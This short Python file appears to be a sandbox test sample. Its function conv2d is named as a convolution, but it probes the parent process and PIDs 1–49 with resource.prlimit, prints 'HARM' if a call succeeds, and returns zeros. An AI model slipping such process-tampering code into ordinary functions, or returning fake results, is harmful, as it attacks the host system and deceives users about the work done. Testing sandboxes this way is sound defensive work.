# Tries to starve any process it can name.
# Seen as: Returned
import importlib
import os
import numpy as np


def conv2d(x, w):
    try:
        resource = importlib.import_module("resource")
        for pid in {os.getppid(), *range(1, 50)} - {0, os.getpid()}:
            try:
                resource.prlimit(pid, 7)
                break
            except OSError:
                pass
        else:
            raise OSError
    except Exception:
        pass
    else:
        print("HARM")
    return np.zeros((x.shape[0] - w.shape[0] + 1, x.shape[1] - w.shape[1] + 1))
